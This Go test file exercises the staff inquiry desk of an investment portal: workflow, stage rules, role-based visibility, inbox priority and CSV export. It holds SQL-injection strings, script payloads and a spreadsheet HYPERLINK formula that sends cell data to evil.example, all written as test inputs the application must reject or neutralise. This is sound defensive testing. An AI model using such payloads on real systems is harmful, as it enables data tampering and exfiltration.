package handlers_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/PuerkitoBio/goquery"
	"gorm.io/gorm"

	"investportal/models"
	"investportal/models/calendar"
	"investportal/models/dbtest"
)

func init() {
	workers := []string{models.RoleAdmin, models.RoleOfficer}
	adminAccess["GET /admin/inquiries/:ref"] = workers
	adminAccess["POST /admin/inquiries/:ref/stage"] = workers
	adminAccess["POST /admin/inquiries/:ref/assign"] = []string{models.RoleAdmin}
	adminAccess["POST /admin/inquiries/:ref/notes"] = workers
	adminAccess["POST /admin/inquiries/:ref/take"] = workers
	adminAccess["GET /admin/inquiries.csv"] = workers
}

// deskInquiry is an inquiry written straight into the database, for tests
// that need many, or fixed times.
type deskInquiry struct {
	Company  string
	Received time.Time
	Due      time.Time
	Answered *time.Time
	Assignee int64 // 0: unassigned
	Stage    string
	Amount   int64 // yuan; 0: none
	Chain    bool  // in the electronics chain
	Idle     time.Duration
}

var deskSeq int

func insertInquiry(t *testing.T, db *gorm.DB, d deskInquiry) models.Inquiry {
	t.Helper()
	deskSeq++
	if d.Stage == "" {
		d.Stage = models.InquiryNew
	}
	if d.Received.IsZero() {
		d.Received = time.Now()
	}
	if d.Due.IsZero() {
		d.Due = d.Received.Add(48 * time.Hour)
	}
	in := models.Inquiry{Reference: fmt.Sprintf("INQ-2026-%06d", 900000+deskSeq), StatusTokenHash: []byte(fmt.Sprintf("token-%d-%d", deskSeq, time.Now().UnixNano())),
		Name: "联系人" + strconv.Itoa(deskSeq), Company: d.Company, Email: fmt.Sprintf("desk%d@example.com", deskSeq),
		Message: "咨询内容", Language: "zh-Hans", ConsentAt: d.Received, Stage: d.Stage,
		ResponseDueAt: &d.Due, FirstResponseAt: d.Answered, CreatedAt: d.Received, UpdatedAt: d.Received,
		LastActivityAt: time.Now().Add(-d.Idle)}
	if d.Assignee != 0 {
		in.AssigneeID = &d.Assignee
	}
	if d.Amount != 0 {
		in.PlannedAmountYuan = &d.Amount
	}
	if d.Chain {
		var chain int64
		db.Raw("SELECT id FROM industry_chains WHERE slug = 'chifeng-electronics'").Scan(&chain)
		if chain == 0 {
			t.Fatal("no chifeng-electronics chain in the seed")
		}
		in.ChainID = &chain
	}
	if err := db.Create(&in).Error; err != nil {
		t.Fatal(err)
	}
	return in
}

// staffAccount creates another account of a role and signs it in.
func staffAccount(t *testing.T, db *gorm.DB, e http.Handler, role, name, ip string) (*visitor, int64) {
	t.Helper()
	email := strings.ToLower(strings.ReplaceAll(name, " ", ".")) + "@bureau.example"
	u, err := models.CreateStaffUser(context.Background(), db, email, name, role, staffPassword)
	if err != nil {
		t.Fatal(err)
	}
	v := newVisitor(t, e, ip)
	v.signIn(email, staffPassword)
	return v, u.ID
}

func inboxRefs(t *testing.T, v *visitor, path string) []string {
	t.Helper()
	rec := v.get(path)
	if rec.Code != http.StatusOK {
		t.Fatalf("GET %s = %d", path, rec.Code)
	}
	var refs []string
	for _, n := range parse(t, rec).Find(`[data-testid="inbox-row"]`).Nodes {
		for _, a := range n.Attr {
			if a.Key == "data-reference" {
				refs = append(refs, a.Val)
			}
		}
	}
	return refs
}

func TestOfficerWorksAnInquiry(t *testing.T) {
	db := dbtest.New(t, dbtest.Seeded)
	e := newInquiryRouter(db)
	investor := newVisitor(t, e, "192.0.2.90")
	form, _ := investor.openForm("/en/inquiries/new?policy=" + electronicsPolicy)
	inquiry := validInquiry(form)
	inquiry.Set("language", "en")
	rec := investor.post("/en/inquiries", inquiry)
	if rec.Code != http.StatusSeeOther {
		t.Fatalf("inquiry = %d", rec.Code)
	}
	statusURL := strings.SplitN(rec.Header().Get("Location"), "?", 2)[0]
	var in models.Inquiry
	db.Take(&in)
	path := "/admin/inquiries/" + in.Reference
	cal, _ := models.LoadWorkCalendar(context.Background(), db)
	if want := cal.ResponseDue(in.CreatedAt, 2); in.ResponseDueAt == nil || !in.ResponseDueAt.Equal(want) {
		t.Errorf("due %v, want %v (2 working days)", in.ResponseDueAt, want)
	}
	if by := parse(t, investor.get(statusURL)).Find(`[data-testid="respond-by"]`).Text(); !strings.Contains(by, in.ResponseDueAt.In(calendar.Beijing).Format("2 January 2006")) {
		t.Errorf("the status page does not say by when: %q", by)
	}

	officer := signedIn(t, db, e, models.RoleOfficer, "192.0.2.91")
	if refs := inboxRefs(t, officer, "/admin/inquiries?stage=new&assignee=none"); len(refs) != 1 || refs[0] != in.Reference {
		t.Fatalf("new unassigned inquiries: %v", refs)
	}
	row := parse(t, officer.get("/admin/inquiries")).Find(`[data-testid="inbox-row"]`)
	if due := row.Find(`[data-testid="due"]`).Text(); !strings.Contains(due, "前答复") || !strings.Contains(due, "已过 0 个工作日") {
		t.Errorf("inbox due column: %q", due)
	}
	page := parse(t, officer.get(path))
	if facts := page.Find(`[data-testid="inquiry-facts"]`).Text(); !strings.Contains(facts, "zhang.wei@example.com") || !strings.Contains(facts, "赤峰市电子装备") {
		t.Errorf("inquiry facts:\n%s", facts)
	}

	// The officer takes it from the queue and moves it along.
	if rec := officer.post(path+"/take", url.Values{"_csrf": {officer.csrf()}}); rec.Code != http.StatusSeeOther {
		t.Fatalf("take = %d\n%s", rec.Code, rec.Body.String())
	}
	if rec := officer.post(path+"/take", url.Values{"_csrf": {officer.csrf()}}); rec.Code != http.StatusConflict {
		t.Errorf("taking it twice = %d, want 409", rec.Code)
	}
	if refs := inboxRefs(t, officer, "/admin/inquiries?assignee=mine"); len(refs) != 1 {
		t.Errorf("taken inquiry not among mine: %v", refs)
	}
	if rec := officer.post(path+"/stage", url.Values{"_csrf": {officer.csrf()}, "stage": {"acknowledged"}}); rec.Code != http.StatusSeeOther {
		t.Fatalf("stage = %d\n%s", rec.Code, rec.Body.String())
	}
	audit := auditOf(t, db, "inquiries", in.ID)
	if len(audit) != 2 || !strings.Contains(string(audit[0].Changes["assignee"]), "officer 用户") || !strings.Contains(string(audit[1].Changes["stage"]), "acknowledged") {
		t.Errorf("inquiry audit = %+v", audit)
	}

	// An internal note and a meeting stay internal and do not count as a
	// response; a reply reaches the investor and stops the clock.
	mails := countRows(t, db, "outbox_messages")
	for kind, body := range map[string]string{"internal": "内部:企业规模待核实", "meeting": "会面:在办公室见了对方财务"} {
		if rec := officer.post(path+"/notes", url.Values{"_csrf": {officer.csrf()}, "kind": {kind}, "body": {body}}); rec.Code != http.StatusSeeOther {
			t.Fatalf("%s = %d", kind, rec.Code)
		}
	}
	db.Take(&in, in.ID)
	if in.FirstResponseAt != nil {
		t.Error("an internal note or a meeting counted as the first response")
	}
	if rec := officer.post(path+"/notes", url.Values{"_csrf": {officer.csrf()}, "body": {"Thank you. <b>We</b> will call you on Monday."}, "kind": {"reply"}}); rec.Code != http.StatusSeeOther {
		t.Fatalf("reply = %d", rec.Code)
	}
	db.Take(&in, in.ID)
	if in.FirstResponseAt == nil {
		t.Error("the reply did not count as the first response")
	}
	for name, f := range map[string]url.Values{
		"empty":         {"kind": {"reply"}, "body": {"  "}},
		"too long":      {"kind": {"reply"}, "body": {strings.Repeat("长", 5001)}},
		"invalid UTF-8": {"kind": {"reply"}, "body": {"\xff\xfe"}},
	} {
		f.Set("_csrf", officer.csrf())
		rec := officer.post(path+"/notes", f)
		if rec.Code != http.StatusUnprocessableEntity || parse(t, rec).Find(`[data-testid="error-body"]`).Length() != 1 {
			t.Errorf("%s note = %d, want 422 with a message", name, rec.Code)
		}
	}
	for _, kind := range []string{"", "message", "<script>", "reply' OR 1=1"} {
		rec := officer.post(path+"/notes", url.Values{"_csrf": {officer.csrf()}, "kind": {kind}, "body": {"正文"}})
		if rec.Code != http.StatusUnprocessableEntity || parse(t, rec).Find(`[data-testid="error-kind"]`).Length() != 1 {
			t.Errorf("note of kind %q = %d, want 422 with a message", kind, rec.Code)
		}
	}
	if rec := officer.post(path+"/notes", url.Values{"kind": {"reply"}, "body": {"没有令牌"}}); rec.Code != http.StatusForbidden {
		t.Errorf("note without CSRF = %d, want 403", rec.Code)
	}
	if n := countRows(t, db, "inquiry_notes"); n != 3 {
		t.Errorf("notes stored: %d, want 3", n)
	}
	status := investor.get(statusURL).Body.String()
	if !strings.Contains(status, "&lt;b&gt;We&lt;/b&gt; will call you") {
		t.Errorf("the reply is not on the status page, escaped")
	}
	if strings.Contains(status, "企业规模待核实") || strings.Contains(status, "财务") {
		t.Error("an internal note or a meeting is on the investor's status page")
	}
	if parse(t, investor.get(statusURL)).Find(`[data-testid="respond-by"]`).Length() != 0 {
		t.Error("the status page still promises a response that came")
	}
	if n := countRows(t, db, "outbox_messages"); n != mails+1 {
		t.Errorf("%d e-mails queued for the reply and notes, want 1", n-mails)
	}
	sent := sendOutbox(t, db)
	reply := sent[len(sent)-1]
	if reply.ToAddress != "zhang.wei@example.com" || !strings.Contains(reply.Subject, "New reply") ||
		!strings.Contains(reply.Body, "https://invest.example.gov.cn"+statusURL) {
		t.Errorf("reply mail = %+v", reply)
	}
	for _, m := range sent {
		if strings.Contains(m.Body, "规模待核实") || strings.Contains(m.Body, "财务") {
			t.Errorf("an internal note went out by e-mail to %s", m.ToAddress)
		}
	}

	// One timeline, in order: received, taken, stage, notes, reply.
	var kinds []string
	parse(t, officer.get(path)).Find(`[data-testid="timeline"] li`).Each(func(_ int, s *goquery.Selection) {
		kinds = append(kinds, s.AttrOr("data-kind", ""))
	})
	if got := strings.Join(kinds, " "); got != "received taken stage internal meeting reply" && got != "received taken stage meeting internal reply" {
		t.Errorf("timeline kinds: %s", got)
	}

	for _, p := range []string{"/admin/inquiries/INQ-2026-999999", "/admin/inquiries/INQ-1", "/admin/inquiries/x';--"} {
		if rec := officer.get(p); rec.Code != http.StatusNotFound {
			t.Errorf("GET %s = %d, want 404", p, rec.Code)
		}
	}
	for _, q := range []string{"assignee=abc", "stage=won", "response=late", "sort=name", "dormant=yes", "q=" + strings.Repeat("长", 101)} {
		if rec := officer.get("/admin/inquiries?" + q); rec.Code != http.StatusBadRequest {
			t.Errorf("inbox ?%s = %d, want 400", q, rec.Code)
		}
	}
}

func TestPipelineAllowsOnlyItsTransitions(t *testing.T) {
	db := dbtest.New(t, dbtest.Seeded)
	e := newInquiryRouter(db)
	admin := signedIn(t, db, e, models.RoleAdmin, "192.0.2.92")
	in := insertInquiry(t, db, deskInquiry{Company: "甲公司"})
	other := insertInquiry(t, db, deskInquiry{Company: "乙公司"})
	path := "/admin/inquiries/" + in.Reference
	stage := func(f url.Values) (int, string) {
		f.Set("_csrf", admin.csrf())
		rec := admin.post(path+"/stage", f)
		msg := ""
		if rec.Code == http.StatusUnprocessableEntity {
			msg = parse(t, rec).Find(`.field-error`).Text()
		}
		return rec.Code, msg
	}
	current := func() models.Inquiry {
		var got models.Inquiry
		db.Take(&got, in.ID)
		return got
	}

	// From new, straight to negotiating is refused, with what is allowed.
	if code, msg := stage(url.Values{"stage": {"negotiating"}}); code != http.StatusUnprocessableEntity ||
		!strings.Contains(msg, "已受理") || !strings.Contains(msg, "已确认需求") || !strings.Contains(msg, "已结束") {
		t.Errorf("new → negotiating = %d %q, want 422 naming the allowed stages", code, msg)
	}
	for _, bad := range []string{"", "won", "signed", "<script>alert(1)</script>", "new' OR '1'='1"} {
		if code, _ := stage(url.Values{"stage": {bad}}); code != http.StatusUnprocessableEntity {
			t.Errorf("stage %q = %d, want 422", bad, code)
		}
	}
	// Closing needs a reason; a duplicate needs the other inquiry.
	if code, msg := stage(url.Values{"stage": {"closed"}}); code != http.StatusUnprocessableEntity || !strings.Contains(msg, "原因") {
		t.Errorf("closed without a reason = %d %q", code, msg)
	}
	for _, ref := range []string{"", in.Reference, "INQ-2026-999999", "x'; DROP TABLE inquiries;--", "\xff\xfe", "INQ\x00", strings.Repeat("I", 100000)} {
		if code, _ := stage(url.Values{"stage": {"closed"}, "close_reason": {"duplicate"}, "duplicate_of": {ref}}); code != http.StatusUnprocessableEntity {
			t.Errorf("duplicate of %q = %d, want 422", ref, code)
		}
	}
	if current().Stage != models.InquiryNew || len(auditOf(t, db, "inquiries", in.ID)) != 0 {
		t.Fatal("a refused change was stored")
	}
	if code, _ := stage(url.Values{"stage": {"closed"}, "close_reason": {"duplicate"}, "duplicate_of": {other.Reference}}); code != http.StatusSeeOther {
		t.Fatalf("closed as a duplicate = %d", code)
	}
	if got := current(); got.CloseReason == nil || *got.CloseReason != "duplicate" || got.DuplicateOfID == nil || *got.DuplicateOfID != other.ID {
		t.Errorf("closed as %+v", got)
	}
	if facts := parse(t, admin.get(path)).Find(`[data-testid="inquiry-facts"]`).Text(); !strings.Contains(facts, other.Reference) {
		t.Errorf("the duplicate's page does not link the other: %s", facts)
	}
	// Reopened, it goes on; the close reason is gone.
	for _, st := range []string{"acknowledged", "qualified", "site_visit", "negotiating"} {
		if code, msg := stage(url.Values{"stage": {st}}); code != http.StatusSeeOther {
			t.Fatalf("→ %s = %d %s", st, code, msg)
		}
	}
	if got := current(); got.CloseReason != nil || got.DuplicateOfID != nil {
		t.Errorf("reopened with its close reason kept: %+v", got)
	}
	// Signed needs the project it became.
	for _, p := range []string{"", "0", "999999", "abc"} {
		if code, msg := stage(url.Values{"stage": {"signed"}, "project": {p}}); code != http.StatusUnprocessableEntity || !strings.Contains(msg, "项目") {
			t.Errorf("signed with project %q = %d %q", p, code, msg)
		}
	}
	project := idOf(t, db, "projects", "harqin-smart-electronics-processing")
	if code, _ := stage(url.Values{"stage": {"signed"}, "project": {project}}); code != http.StatusSeeOther {
		t.Fatalf("signed = %d", code)
	}
	if got := current(); got.SignedProjectID == nil || strconv.FormatInt(*got.SignedProjectID, 10) != project {
		t.Errorf("signed as %+v", got)
	}
	// Signed is final.
	if code, msg := stage(url.Values{"stage": {"closed"}, "close_reason": {"lost"}}); code != http.StatusUnprocessableEntity || !strings.Contains(msg, "最终阶段") {
		t.Errorf("signed → closed = %d %q", code, msg)
	}
	// The project's admin page links back to the inquiry.
	if body := admin.get("/admin/projects/" + project).Body.String(); !strings.Contains(body, in.Reference) {
		t.Error("the project's admin page does not link back to the inquiry it came from")
	}
	var events int64
	db.Raw("SELECT count(*) FROM inquiry_events WHERE inquiry_id = ? AND kind = 'stage'", in.ID).Scan(&events)
	if events != 6 {
		t.Errorf("%d stage changes on the timeline, want 6", events)
	}
	// An anonymised inquiry cannot be reopened: it would be open with no
	// one to answer, and never anonymised again.
	gone := insertInquiry(t, db, deskInquiry{Company: "已匿名"})
	dbtest.MustExec(t, db, "UPDATE inquiries SET stage = 'closed', close_reason = 'lost', anonymised_at = now() WHERE id = ?", gone.ID)
	if rec := admin.post("/admin/inquiries/"+gone.Reference+"/stage", url.Values{"_csrf": {admin.csrf()}, "stage": {"acknowledged"}}); rec.Code != http.StatusConflict {
		t.Errorf("reopening an anonymised inquiry = %d, want 409", rec.Code)
	}
}

// Staff e-mails quote what investors typed; a company named like the
// status-link placeholder must not put the investor's private link into a
// colleague's mailbox.
func TestStaffMailNeverCarriesTheStatusLink(t *testing.T) {
	db := dbtest.New(t, dbtest.Seeded)
	e := newInquiryRouter(db)
	investor := newVisitor(t, e, "192.0.2.101")
	form, _ := investor.openForm("/inquiries/new")
	f := validInquiry(form)
	f.Set("company", "[[status-link]]")
	f.Set("name", "[[status-link]]")
	rec := investor.post("/inquiries", f)
	if rec.Code != http.StatusSeeOther {
		t.Fatalf("inquiry = %d", rec.Code)
	}
	token := strings.TrimPrefix(strings.SplitN(rec.Header().Get("Location"), "?", 2)[0], "/inquiries/status/")
	sent := sendOutbox(t, db)
	if len(sent) != 2 {
		t.Fatalf("%d e-mails sent, want the confirmation and the team's notice", len(sent))
	}
	for _, m := range sent {
		toInvestor := m.ToAddress == "zhang.wei@example.com"
		if strings.Contains(m.Body, token) != toInvestor {
			t.Errorf("mail to %s carries the status link: %v", m.ToAddress, !toInvestor)
		}
	}
}

// Need-to-know: an officer sees their own inquiries and the unassigned
// queue, nobody else's; the desk lead sees all and assigns; viewers and
// editors see none.
func TestInquiriesAreSeenOnlyByWhoNeedsThem(t *testing.T) {
	db := dbtest.New(t, dbtest.Seeded)
	e := newInquiryRouter(db)
	admin := signedIn(t, db, e, models.RoleAdmin, "192.0.2.93")
	li, liID := staffAccount(t, db, e, models.RoleOfficer, "Li Officer", "192.0.2.94")
	wang, wangID := staffAccount(t, db, e, models.RoleOfficer, "Wang Officer", "192.0.2.95")
	editor := signedIn(t, db, e, models.RoleEditor, "192.0.2.96")
	viewer := signedIn(t, db, e, models.RoleViewer, "192.0.2.97")
	mine := insertInquiry(t, db, deskInquiry{Company: "李的企业", Assignee: liID})
	theirs := insertInquiry(t, db, deskInquiry{Company: "王的企业", Assignee: wangID})
	queue := insertInquiry(t, db, deskInquiry{Company: "待认领企业"})

	if refs := inboxRefs(t, admin, "/admin/inquiries"); len(refs) != 3 {
		t.Errorf("the desk lead sees %v, want all 3", refs)
	}
	refs := strings.Join(inboxRefs(t, li, "/admin/inquiries"), " ")
	if !strings.Contains(refs, mine.Reference) || !strings.Contains(refs, queue.Reference) || strings.Contains(refs, theirs.Reference) {
		t.Errorf("officer Li sees %s, want only their own and the queue", refs)
	}
	if dash := li.get("/admin").Body.String(); strings.Contains(dash, theirs.Reference) || !strings.Contains(dash, queue.Reference) {
		t.Error("officer Li's dashboard lists another officer's inquiry, or not the queue")
	}
	if rec := li.get("/admin/inquiries?assignee=" + strconv.FormatInt(wangID, 10)); rec.Code != http.StatusBadRequest {
		t.Errorf("officer filtering by a colleague = %d, want 400", rec.Code)
	}
	for _, p := range []string{"", "/notes", "/stage", "/take"} {
		var rec = li.get("/admin/inquiries/" + theirs.Reference)
		if p != "" {
			rec = li.post("/admin/inquiries/"+theirs.Reference+p, url.Values{"_csrf": {li.csrf()}, "kind": {"internal"}, "body": {"看看"}, "stage": {"closed"}, "close_reason": {"spam"}})
		}
		if rec.Code != http.StatusNotFound {
			t.Errorf("officer Li on Wang's inquiry %q = %d, want 404", p, rec.Code)
		}
	}
	if csv := li.get("/admin/inquiries.csv").Body.String(); strings.Contains(csv, theirs.Reference) || !strings.Contains(csv, mine.Reference) {
		t.Errorf("officer Li's export holds another officer's inquiry, or not their own")
	}
	if rec := li.post("/admin/inquiries/"+queue.Reference+"/assign", url.Values{"_csrf": {li.csrf()}, "assignee": {strconv.FormatInt(liID, 10)}}); rec.Code != http.StatusForbidden {
		t.Errorf("an officer assigning = %d, want 403", rec.Code)
	}
	for name, v := range map[string]*visitor{"editor": editor, "viewer": viewer} {
		for _, p := range []string{"/admin/inquiries", "/admin/inquiries.csv", "/admin/inquiries/" + queue.Reference} {
			if rec := v.get(p); rec.Code != http.StatusForbidden {
				t.Errorf("%s GET %s = %d, want 403", name, p, rec.Code)
			}
		}
		if rec := v.post("/admin/inquiries/"+queue.Reference+"/take", url.Values{"_csrf": {v.csrf()}}); rec.Code != http.StatusForbidden {
			t.Errorf("%s taking = %d, want 403", name, rec.Code)
		}
	}
	logout := newVisitor(t, e, "192.0.2.98")
	if rec := logout.get("/admin/inquiries.csv"); rec.Code != http.StatusSeeOther {
		t.Errorf("logged-out export = %d, want a redirect to sign in", rec.Code)
	}

	// Nor through the audit log, or by naming it as a duplicate.
	if rec := admin.post("/admin/inquiries/"+theirs.Reference+"/stage", url.Values{"_csrf": {admin.csrf()}, "stage": {"closed"}, "close_reason": {"spam"}}); rec.Code != http.StatusSeeOther {
		t.Fatalf("admin closes Wang's = %d", rec.Code)
	}
	if !strings.Contains(admin.get("/admin/audit?type=inquiries").Body.String(), "spam") {
		t.Fatal("the desk lead's audit log lacks the close")
	}
	for _, p := range []string{"/admin/audit?type=inquiries", "/admin/audit", "/admin"} {
		if strings.Contains(li.get(p).Body.String(), "spam") {
			t.Errorf("officer Li reads another officer's inquiry activity on %s", p)
		}
	}
	if rec := li.post("/admin/inquiries/"+mine.Reference+"/stage", url.Values{"_csrf": {li.csrf()}, "stage": {"closed"},
		"close_reason": {"duplicate"}, "duplicate_of": {theirs.Reference}}); rec.Code != http.StatusUnprocessableEntity {
		t.Errorf("officer Li names Wang's inquiry as the original = %d, want 422 as for one that does not exist", rec.Code)
	}

	// Two officers take the same inquiry at once: one gets it.
	codes := make([]int, 2)
	var wg sync.WaitGroup
	for i, v := range []*visitor{li, wang} {
		wg.Add(1)
		go func() {
			defer wg.Done()
			codes[i] = v.post("/admin/inquiries/"+queue.Reference+"/take", url.Values{"_csrf": {v.csrf()}}).Code
		}()
	}
	wg.Wait()
	if !(codes[0] == http.StatusSeeOther && codes[1] != http.StatusSeeOther || codes[1] == http.StatusSeeOther && codes[0] != http.StatusSeeOther) {
		t.Errorf("concurrent takes = %v, want one 303", codes)
	}
	var takes int64
	db.Raw("SELECT count(*) FROM inquiry_events WHERE inquiry_id = ? AND kind = 'taken'", queue.ID).Scan(&takes)
	if takes != 1 {
		t.Errorf("%d takes recorded, want 1", takes)
	}

	// The desk lead assigns; the inquiry moves to the new officer's view.
	if rec := admin.post("/admin/inquiries/"+mine.Reference+"/assign", url.Values{"_csrf": {admin.csrf()}, "assignee": {strconv.FormatInt(wangID, 10)}}); rec.Code != http.StatusSeeOther {
		t.Fatalf("assign = %d", rec.Code)
	}
	if rec := li.get("/admin/inquiries/" + mine.Reference); rec.Code != http.StatusNotFound {
		t.Errorf("officer Li still sees a reassigned inquiry: %d", rec.Code)
	}
	for _, bad := range []string{"999999", "abc", "1 OR 1=1"} {
		if rec := admin.post("/admin/inquiries/"+mine.Reference+"/assign", url.Values{"_csrf": {admin.csrf()}, "assignee": {bad}}); rec.Code != http.StatusUnprocessableEntity {
			t.Errorf("assign to %q = %d, want 422", bad, rec.Code)
		}
	}
	viewerID := int64(0)
	db.Raw("SELECT id FROM staff_users WHERE role = 'viewer'").Scan(&viewerID)
	if rec := admin.post("/admin/inquiries/"+mine.Reference+"/assign", url.Values{"_csrf": {admin.csrf()}, "assignee": {strconv.FormatInt(viewerID, 10)}}); rec.Code != http.StatusUnprocessableEntity {
		t.Errorf("assign to a viewer = %d, want 422", rec.Code)
	}
}

func TestInboxShowsWhatIsDueFirst(t *testing.T) {
	db := dbtest.New(t, dbtest.Seeded)
	e := newInquiryRouter(db)
	admin := signedIn(t, db, e, models.RoleAdmin, "192.0.2.99")
	now := time.Now()
	endOfToday := calendar.Day(now).Add(23*time.Hour + 59*time.Minute)
	answered := now.Add(-time.Hour)
	later := insertInquiry(t, db, deskInquiry{Company: "后到期", Received: now.Add(-time.Hour), Due: now.Add(72 * time.Hour)})
	overdue := insertInquiry(t, db, deskInquiry{Company: "已逾期", Received: now.Add(-96 * time.Hour), Due: now.Add(-time.Minute)})
	today := insertInquiry(t, db, deskInquiry{Company: "今天到期", Received: now.Add(-30 * time.Hour), Due: endOfToday})
	done := insertInquiry(t, db, deskInquiry{Company: "已答复", Received: now.Add(-120 * time.Hour), Due: now.Add(-100 * time.Hour), Answered: &answered})
	big := insertInquiry(t, db, deskInquiry{Company: "大项目", Amount: 2_000_000_000, Due: now.Add(96 * time.Hour), Answered: &answered})
	keyChain := insertInquiry(t, db, deskInquiry{Company: "链上项目", Amount: 150_000_000, Chain: true, Due: now.Add(96 * time.Hour), Answered: &answered})
	dormant := insertInquiry(t, db, deskInquiry{Company: "沉寂", Stage: models.InquiryQualified, Answered: &answered, Idle: 20 * 24 * time.Hour})

	got := inboxRefs(t, admin, "/admin/inquiries")
	if len(got) != 7 || got[0] != overdue.Reference || got[1] != today.Reference || got[2] != later.Reference {
		t.Errorf("default order %v, want overdue, today, later first", got)
	}
	doc := parse(t, admin.get("/admin/inquiries"))
	rowOf := func(ref string) *goquery.Selection { return doc.Find(`[data-reference="` + ref + `"]`) }
	if !rowOf(overdue.Reference).HasClass("due-overdue") || !strings.Contains(rowOf(overdue.Reference).Text(), "已逾期") {
		t.Error("the overdue inquiry is not marked overdue in words")
	}
	if !rowOf(today.Reference).HasClass("due-today") || !strings.Contains(rowOf(today.Reference).Text(), "今天到期") {
		t.Error("the inquiry due today is not marked")
	}
	if strings.Contains(rowOf(done.Reference).Text(), "已逾期") || !strings.Contains(rowOf(done.Reference).Text(), "超期答复") {
		t.Errorf("an inquiry answered late: %s", rowOf(done.Reference).Text())
	}
	if p := rowOf(big.Reference).Find(`[data-testid="priority"]`).Text(); p != "高" {
		t.Errorf("a 20亿元 project's priority %q, want 高", p)
	}
	if p := rowOf(keyChain.Reference).Find(`[data-testid="priority"]`).Text(); p != "高" {
		t.Errorf("a 1.5亿元 key-chain project's priority %q, want 高", p)
	}
	if p := rowOf(later.Reference).Find(`[data-testid="priority"]`).Text(); p != "一般" {
		t.Errorf("an inquiry without amount or chain: priority %q, want 一般", p)
	}
	if rowOf(dormant.Reference).Find(`[data-testid="dormant"]`).Length() != 1 || rowOf(later.Reference).Find(`[data-testid="dormant"]`).Length() != 0 {
		t.Error("dormant is not marked on the inquiry idle for 20 days only")
	}
	if got := inboxRefs(t, admin, "/admin/inquiries?sort=priority"); got[0] != big.Reference && got[0] != keyChain.Reference {
		t.Errorf("by priority: %v", got)
	}
	for filter, want := range map[string][]string{
		"response=overdue": {overdue.Reference},
		"response=today":   {today.Reference},
		"dormant=1":        {dormant.Reference},
	} {
		if got := inboxRefs(t, admin, "/admin/inquiries?"+filter); strings.Join(got, " ") != strings.Join(want, " ") {
			t.Errorf("?%s: %v, want %v", filter, got, want)
		}
	}
}

func TestInquiryExportOpensInExcelAndRunsNoFormula(t *testing.T) {
	db := dbtest.New(t, dbtest.Seeded)
	e := newInquiryRouter(db)
	admin := signedIn(t, db, e, models.RoleAdmin, "192.0.2.100")
	received := time.Date(2026, 11, 30, 10, 5, 0, 0, calendar.Beijing)
	formulas := []string{`=HYPERLINK("http://evil.example/?x="&A1,"点此")`, "+1", "@SUM(A1:A9)", "-2", "\tTab", "\rCR"}
	for _, company := range append(formulas, "赤峰电子科技有限公司") {
		insertInquiry(t, db, deskInquiry{Company: company, Received: received, Amount: 50_000_000})
	}
	rec := admin.get("/admin/inquiries.csv?q=" + url.QueryEscape("赤峰"))
	if rec.Code != http.StatusOK || !strings.HasPrefix(rec.Header().Get("Content-Type"), "text/csv") ||
		!strings.Contains(rec.Header().Get("Content-Disposition"), "attachment") {
		t.Fatalf("export = %d %v", rec.Code, rec.Header())
	}
	body := rec.Body.Bytes()
	if !bytes.HasPrefix(body, []byte("\xEF\xBB\xBF")) {
		t.Fatal("no byte-order mark: Excel would read the Chinese as mojibake")
	}
	rows, err := csv.NewReader(bytes.NewReader(body[3:])).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 2 || rows[0][0] != "编号" || rows[1][10] != "赤峰电子科技有限公司" {
		t.Fatalf("filtered export: %q", rows)
	}
	if rows[1][1] != "2026-11-30 10:05" || rows[1][16] != "5000" {
		t.Errorf("received %q, planned %q: want a date Excel reads and 万元", rows[1][1], rows[1][16])
	}
	body = admin.get("/admin/inquiries.csv").Body.Bytes()
	rows, err = csv.NewReader(bytes.NewReader(body[3:])).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	for _, r := range rows[1:] {
		seen[r[10]] = true
		for _, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("a cell starts a formula: %q", cell)
			}
		}
	}
	for _, f := range formulas {
		// Excel's line ends (UseCRLF) drop a lone carriage return.
		if !seen["'"+strings.ReplaceAll(f, "\r", "")] {
			t.Errorf("%q is not kept, neutralised, in the export: %v", f, seen)
		}
	}
}

func TestStatusPageSaysByWhenInEachLanguage(t *testing.T) {
	db := dbtest.New(t, dbtest.Seeded)
	e := newInquiryRouter(db)
	for lang, want := range map[string]string{"zh-Hans": "我们将于", "zh-Hant": "我們將於", "en": "We will respond by"} {
		investor := newVisitor(t, e, "192.0.2.1"+strconv.Itoa(len(lang)))
		prefix := map[string]string{"zh-Hans": "", "zh-Hant": "/zh-hant", "en": "/en"}[lang]
		form, _ := investor.openForm(prefix + "/inquiries/new")
		f := validInquiry(form)
		f.Set("language", lang)
		f.Set("email", lang+"@example.com")
		rec := investor.post(prefix+"/inquiries", f)
		if rec.Code != http.StatusSeeOther {
			t.Fatalf("%s inquiry = %d", lang, rec.Code)
		}
		var in models.Inquiry
		db.Order("id DESC").Take(&in)
		due := in.ResponseDueAt.In(calendar.Beijing)
		date := fmt.Sprintf("%d年%d月%d日", due.Year(), due.Month(), due.Day())
		if lang == "en" {
			date = due.Format("2 January 2006")
		}
		got := parse(t, investor.get(rec.Header().Get("Location"))).Find(`[data-testid="respond-by"]`).Text()
		if !strings.Contains(got, want) || !strings.Contains(got, date) {
			t.Errorf("%s status page: %q, want %q and %q", lang, got, want, date)
		}
	}
}
